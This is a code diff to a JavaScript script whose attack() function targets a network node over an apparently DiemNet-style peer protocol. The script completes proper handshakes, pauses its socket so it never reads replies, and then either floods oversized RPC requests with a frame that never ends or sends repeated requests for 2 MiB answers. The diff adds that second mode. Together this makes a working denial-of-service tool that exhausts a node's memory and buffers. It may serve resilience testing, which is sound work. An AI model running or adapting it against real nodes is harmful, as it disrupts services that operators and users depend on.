@@ -1,4 +1,7 @@
-/** Peers with proper handshakes that make a node hold what they can. `<address> <peers>` */
+/**
+ * Peers with proper handshakes that make a node hold what they can. `<address> <peers> <how>`: `unanswered` requests and
+ * a frame that never ends, or `deaf`, which ask for large answers. Neither kind ever reads.
+ */
 import { TcpTransport } from '@diemnet/netcore';
 import { parseNetworkAddress } from '@diemnet/network-address';
 import { NoiseUpgrader, generateKeyPair } from '@diemnet/noise';
@@ -6,7 +9,7 @@ import { DiemNetTransport } from '@diemnet/transport';
 import { PUBLIC_NETWORK, TrustedPeers, parseChainId, peerIdFromPublicKey } from '@diemnet/types';
 import { encodeRpcRequestHeader } from '@diemnet/wire';
 
-const [text, peers] = process.argv.slice(2);
+const [text, peers, how] = process.argv.slice(2);
 const address = parseNetworkAddress(text);
 const MIB = 2 ** 20;
 const PROTOCOL = 42;
@@ -36,6 +39,21 @@ async function attack() {
   socket.setHandler(silence);
   // Nothing of what it is told is read.
   socket.pause();
+  if (how === 'deaf') askForMuch(socket);
+  else sendMuch(socket);
+  while (socket.queuedBytes > 0) await new Promise((resolve) => setTimeout(resolve, 20));
+}
+
+/** Little to send, and more to be told than a lane takes. */
+function askForMuch(socket) {
+  const request = new TextEncoder().encode(`{"ask":1,"answerBytes":${2 * MIB}}`);
+  for (let id = 0; id < 12; id++) {
+    socket.write(encodeRpcRequestHeader(PROTOCOL, id, 0, request.length));
+    socket.write(request.slice());
+  }
+}
+
+function sendMuch(socket) {
   const payload = new Uint8Array(2 * MIB).fill(0x20);
   payload.set(new TextEncoder().encode('{"ask":1}'));
   // Requests until the budget is used up, and more of them.
@@ -47,5 +65,4 @@ async function attack() {
   const header = encodeRpcRequestHeader(PROTOCOL, 99, 0, 8 * MIB - 11);
   socket.write(header);
   socket.write(new Uint8Array(8 * MIB - 11 - 1));
-  while (socket.queuedBytes > 0) await new Promise((resolve) => setTimeout(resolve, 20));
 }
